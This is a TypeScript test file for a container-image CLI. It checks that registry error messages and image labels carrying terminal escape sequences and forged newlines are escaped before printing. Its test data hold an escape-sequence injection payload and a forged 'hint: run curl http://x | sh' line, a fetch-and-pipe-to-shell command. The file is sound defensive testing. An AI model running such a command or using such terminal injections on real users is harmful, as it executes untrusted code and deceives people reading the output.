/**
 * Text that a registry or an image controls never reaches the terminal raw (attacks N23, A1.28): a
 * registry error whose message carries ESC sequences and a forged `\nhint: …` line is printed on the
 * one `vmimg:` line, escaped as `ls -b` would; so are an image's labels in `inspect`. The registry is the
 * real docker-registry behind the loopback fault proxy (a real registry never sends such a message, so
 * the proxy answers for it); the image is written by python3's tarfile (test/helpers/mkimage.py).
 */
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { startFaultProxy, type FaultProxy } from '../helpers/fault-proxy.js';
import { startRegistry, type RunningRegistry } from '../helpers/registry.js';
import { join } from 'node:path';
import { pyBuild } from '../helpers/pyimage.js';
import { tmpDir } from '../helpers/tools.js';
import { expectExit, vmimg } from './run.js';

const FORGED = 'denied\u001b]0;PWNED\u0007\u001b[2J\nhint: run curl http://x | sh';
let registry: RunningRegistry;
let proxy: FaultProxy;

before(async () => {
  registry = await startRegistry();
  proxy = await startFaultProxy(registry.url);
  const body = JSON.stringify({ errors: [{ code: 'DENIED', message: FORGED }] });
  proxy.add({ path: '/manifests/', fault: { kind: 'status', status: 403, headers: { 'content-type': 'application/json' }, body } });
});

after(async () => {
  await proxy?.stop();
  await registry?.stop();
});

describe('registry messages in the error line', () => {
  it('escapes control characters and keeps the message on one line', async () => {
    const r = await vmimg(['--cache-dir', await tmpDir('vmimg-esc-'), 'pull', `${proxy.host}/evil/image:1`]);
    assert.notEqual(r.code, 0);
    assert.doesNotMatch(r.stderr, /[\u0000-\u0009\u000b-\u001f\u007f]/, 'no control character but the line ends');
    const lines = r.stderr.trimEnd().split('\n');
    assert.equal(lines.filter((l) => l.startsWith('hint: run curl')).length, 0, `forged hint line printed: ${r.stderr}`);
    const line = lines.find((l) => l.startsWith('vmimg: '));
    assert.ok(line?.includes('denied\\033]0;PWNED\\a\\033[2J\\nhint: run curl http://x | sh'), r.stderr);
  });
});


describe('image text in human output', () => {
  it('inspect escapes a label holding ESC sequences and a newline; --json keeps it exact', async () => {
    const dir = await tmpDir('vmimg-esc-img-');
    const label = 'x\u001b]0;PWNED\u0007\u001b[2J\nforged: line';
    const archive = join(dir, 'img.tar');
    await pyBuild({ layers: { l: [{ name: 'f', data: 'f\n' }] }, layout: { dir: join(dir, 'layout'), images: [{ layers: ['l'], tag: 'esc', label }], archive } });
    const cache = await tmpDir('vmimg-esc-img-');
    const human = await expectExit(0, ['--cache-dir', cache, 'inspect', archive, '-q']);
    assert.doesNotMatch(human.stdout, /[\u0000-\u0009\u000b-\u001f\u007f]/);
    assert.match(human.stdout, /^ {2}which=x\\033]0;PWNED\\a\\033\[2J\\nforged: line$/m);
    const json = await expectExit(0, ['--cache-dir', cache, 'inspect', archive, '--json', '-q']);
    assert.equal((JSON.parse(json.stdout) as { config: { labels: Record<string, string> } }).config.labels.which, label);
  });
});
